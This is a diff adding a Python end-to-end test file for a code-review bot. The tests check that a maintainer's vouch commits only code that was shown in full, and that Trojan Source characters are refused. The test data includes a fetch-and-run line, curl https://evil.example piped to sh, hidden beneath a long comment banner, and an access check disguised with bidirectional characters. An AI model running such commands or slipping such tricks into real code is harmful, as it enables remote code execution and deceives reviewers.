@@ -1,0 +1,73 @@
+"""A vouch shows every byte it commits (issue 35 item 3), on both forges.
+
+- An outsider's 9,237-character test (under `bugfix.max_test_chars`), mostly a comment banner, ends in
+  `os.system(...)`. Before: the refusal's data block carried the code escaped (each `#` six characters), so
+  the visible fence was cut ("nothing was lost") above the `os.system` line, and the maintainer's
+  `--trust-test` committed the hidden tail. Now the fence shows the code whole, the signed block keeps only
+  its digest, and what is committed is what the fence shows, read back from it.
+- Test code holding bidirectional or invisible characters (Trojan Source) is refused, the lines shown with
+  each such character escaped; nothing is committed.
+"""
+
+from __future__ import annotations
+
+from bot.records import sticky
+from handlers.bugfix.regression_slot import code_digest
+from tests.bugfix.bodies import python_slot
+from tests.e2e.conftest import Steward
+from tests.e2e.test_bugfix_e2e import branches, file_text, refined_bug, reply_to, repo_with_ci
+
+SLOT_PATH = "tests/test_currency_switch.py"
+TAIL = 'def test_discount_survives_currency_switch():\n    os.system("curl -s https://evil.example | sh")\n'
+BANNER = "".join(f"# {'#' * 70} {i:04d}\n" for i in range(1, 110))
+
+
+def long_test() -> str:
+    code = "import os\n\n" + BANNER + "\n" + TAIL
+    pad = 9_237 - len(code)
+    return "import os\n\n" + BANNER + "#" * (pad - 1) + "\n\n" + TAIL
+
+
+def test_a_vouch_commits_exactly_the_code_its_refusal_showed_whole(steward: Steward) -> None:
+    code = long_test()
+    assert len(code) == 9_237
+    repo = repo_with_ci(steward)
+    number = refined_bug(steward, repo, python_slot(code=code), by="outsider")
+    asked = steward.maintainer.comment(repo, number, "/bugfix")
+    steward.settle()
+    refusal = reply_to(steward, repo, number, asked)
+    assert "UNTRUSTED_TEST_CODE" in refusal and "nothing was lost" not in refusal
+    shown = "\n".join("  " + line for line in code.rstrip("\n").split("\n"))
+    assert shown in refusal, "every line of the code, the os.system one included, is in the fence"
+    data = sticky.unverified_data(refusal)
+    assert isinstance(data, dict) and "code" not in data["bugfix-shown"], "the data block keeps no code"
+    digest = code_digest(SLOT_PATH, code.rstrip() + "\n")
+    assert data["bugfix-shown"]["digest"] == digest
+    steward.maintainer.comment(repo, number, f"/bugfix --trust-test {digest}")
+    steward.settle()
+    [branch] = [b for b in branches(steward, repo) if b != "main"]
+    assert file_text(steward, repo, SLOT_PATH, branch) == code.rstrip() + "\n"
+    [record] = [
+        c["body"] for c in steward.bot_comments(repo, number) if c["body"].startswith("<!-- steward:bugfix:")
+    ]
+    kept = sticky.unverified_data(record)
+    assert isinstance(kept, dict) and "code" not in kept and kept["code_chars"] == len(code.strip("\n"))
+
+
+def test_test_code_with_hidden_characters_is_refused_and_shown_escaped(steward: Steward) -> None:
+    code = (
+        "def test_discount_survives_currency_switch():\n"
+        '    access = "user"\n'
+        '    if access != "user\u202e \u2066# admin\u2069 \u2066":\n'
+        "        assert False\u200b\n"
+    )
+    repo = repo_with_ci(steward)
+    number = refined_bug(steward, repo, python_slot(code=code), by="outsider")
+    asked = steward.maintainer.comment(repo, number, "/bugfix")
+    steward.settle()
+    refusal = reply_to(steward, repo, number, asked)
+    assert "TEST_HIDDEN_CHARACTERS" in refusal and "Trojan Source" in refusal
+    assert '3:     if access != "user\\u202e \\u2066# admin\\u2069 \\u2066":' in refusal
+    assert "4:         assert False\\u200b" in refusal
+    assert "\u202e" not in refusal and "\u200b" not in refusal
+    assert branches(steward, repo) == ["main"]
